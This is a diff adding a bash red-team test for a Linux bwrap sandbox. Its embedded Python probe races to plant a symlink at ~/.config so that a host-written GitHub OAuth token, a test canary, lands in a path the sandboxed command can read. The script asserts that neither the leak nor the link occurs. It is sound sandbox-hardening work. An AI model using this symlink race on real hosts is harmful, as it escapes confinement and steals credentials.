@@ -1,0 +1,67 @@
+#!/bin/bash
+# Escape class H1 (linux-bwrap), red team on ce50c65's judge_symlink: it
+# refuses a symlink whose new name reaches a denied name, not one at the
+# name of a denied name's parent. 0958's host (allowWrite "~", denyRead
+# "~/.config/gh": `mv ~/.config ~/.config.bak`, then `mkdir -p
+# ~/.config/gh` and a new token) leaves ~/.config free for a moment; the
+# command, spinning on symlink(~/proj/cfg, ~/.config), puts a link there.
+# The host's mkdir -p follows it and the token lands in ~/proj/cfg/gh,
+# which the command reads (no denied name on that path); the link stays on
+# the host after the run, so every later token goes there too.
+. "$(dirname "$0")/lib.sh"
+need_bwrap
+P="$WORK/proj"
+cd "$P" || exit 1
+S=$(fsjson s '{"denyRead":["~/.config/gh"],"allowWrite":[".","~"],"denyWrite":[]}')
+
+cat > "$WORK/probe.py" <<'PYEOF'
+import os, sys, time
+p = sys.argv[1]
+cfg = os.path.join(os.environ["HOME"], ".config")
+mine = os.path.join(p, "cfg")
+os.mkdir(mine)
+res = open(p + "/res", "a")
+open(p + "/ready", "w").close()
+made = False
+end = time.time() + 10
+while not made and time.time() < end:
+    try:
+        os.symlink(mine, cfg)
+        made = True
+    except OSError:
+        pass
+res.write("linked\n" if made else "not-linked\n")
+for i in range(100):
+    if os.path.exists(p + "/written"):
+        break
+    time.sleep(0.05)
+try:
+    res.write(open(mine + "/gh/hosts.yml").read())
+except OSError as e:
+    res.write("read-failed %s\n" % e)
+res.write("done\n")
+PYEOF
+
+rm -rf "$HOME"/.config* "$P/ready" "$P/written" "$P/res" "$P/cfg"
+mkdir -p "$HOME/.config/gh"
+echo "oauth_token: old-$CANARY" > "$HOME/.config/gh/hosts.yml"
+srt__bg -s "$S" -c "$PY $WORK/probe.py $P"
+pid=$!
+wait_for "$P/ready" 100 || diag "the probe did not start: $(cat "$WORK/bg.out")"
+sleep 0.3
+mv "$HOME/.config" "$HOME/.config.bak"
+sleep 0.3
+mkdir -p "$HOME/.config/gh"
+echo "oauth_token: $CANARY" > "$HOME/.config/gh/hosts.yml"
+touch "$P/written"
+for i in $(seq 100); do kill -0 "$pid" 2>/dev/null || break; sleep 0.1; done
+kill "$pid" 2>/dev/null
+wait "$pid"
+diag "res: $(tr '\n' ' ' < "$P/res" 2>/dev/null)"
+diag "srt: $(tr '\n' ' ' < "$WORK/bg.out" | cut -c1-400)"
+diag "host ~/.config after the run: $(ls -ld "$HOME/.config" 2>&1)"
+attempt H1 "link at the removed parent of the denied ~/.config/gh: the host's new token is not read" \
+	no_leak "$P/res"
+attempt H1 "link at the removed parent of the denied ~/.config/gh: no link of the command's making at ~/.config on the host" \
+	test ! -L "$HOME/.config"
+echo "1..$_tap_n"
